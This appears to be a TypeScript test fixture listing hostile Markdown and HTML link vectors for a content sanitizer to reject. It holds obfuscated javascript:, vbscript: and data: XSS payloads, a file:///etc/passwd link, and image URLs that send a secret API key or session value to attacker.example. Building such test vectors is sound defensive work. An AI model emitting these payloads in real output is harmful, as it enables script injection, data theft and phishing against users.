import type { HostileVector } from "./hostileContent.js";

/** Links and images whose target must be refused or never loaded. @internal */
export const hostileLinks: readonly HostileVector[] = [
  { name: "javascript: link", value: "[click me](javascript:alert(1))" },
  { name: "javascript: link in mixed case", value: "[click me](JaVaScRiPt:alert(1))" },
  {
    name: "javascript: link in decimal entities",
    value: "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  },
  {
    name: "javascript: link in hex entities without semicolons",
    value: "[click me](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  },
  {
    name: "javascript: link with a named colon entity",
    value: "[click me](javascript&colon;alert(1))",
  },
  {
    name: "javascript: link percent-encoded",
    value: "[click me](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)) [again](javascript%3Aalert(1))",
  },
  { name: "javascript: link with a tab in the scheme", value: "[click me](java\tscript:alert(1))" },
  {
    name: "javascript: link with a newline in the scheme",
    value: '[click me](java&#10;script:alert(1)) <a href="java\nscript:alert(1)">again</a>',
  },
  {
    name: "javascript: link after whitespace and control characters",
    value: '[click me]( \u0001 javascript:alert(1)) <a href=" \u000Bjavascript:alert(1)">again</a>',
  },
  {
    name: "javascript: link with NUL in the scheme",
    value: "[click me](java\u0000script:alert(1))",
  },
  {
    name: "javascript: link with a zero-width space in the scheme",
    value: "[click me](java\u200Bscript:alert(1))",
  },
  {
    name: "javascript: HTML anchor",
    value: '<a href="javascript:alert(document.cookie)">open</a>',
  },
  { name: "javascript: reference link", value: "[click me][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "javascript: autolink", value: "<javascript:alert(1)>" },
  {
    name: "data: link",
    value: "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  },
  {
    name: "data: link in upper case",
    value: "[open](<DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E>)",
  },
  {
    name: "data: SVG image",
    value: "![logo](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
  },
  { name: "vbscript: link", value: '[run](vbscript:msgbox("xss"))' },
  { name: "vbscript: link in mixed case and entities", value: "[run](VbScRiPt&#58;msgbox(1))" },
  { name: "file: link", value: "[passwords](file:///etc/passwd)" },
  { name: "protocol-relative link", value: "[docs](//attacker.example/phish)" },
  {
    name: "link title breaking out of its attribute",
    value: '[docs](https://example.com "title\\" onmouseover=\\"alert(1)")',
  },
  {
    name: "image URL exfiltration",
    value: "![loading](https://attacker.example/collect?data=SECRET_API_KEY)",
  },
  {
    name: "reference image exfiltration",
    value: "![status][pixel]\n\n[pixel]: https://attacker.example/pixel.gif?session=abc123",
  },
  {
    name: "HTML image exfiltration",
    value: '<img src="https://attacker.example/track.gif?c=1" width="1" height="1">',
  },
  {
    name: "autolinks",
    value:
      "<https://attacker.example/login> www.attacker.example/login https://example.com@attacker.example/ user@attacker.example",
  },
  {
    name: "link text that names another address",
    value: "[https://example.com/login](https://attacker.example/login)",
  },
  {
    name: "mailto with a payload",
    value: "[mail](mailto:victim@example.com?subject=hi&body=<script>alert(1)</script>)",
  },
];
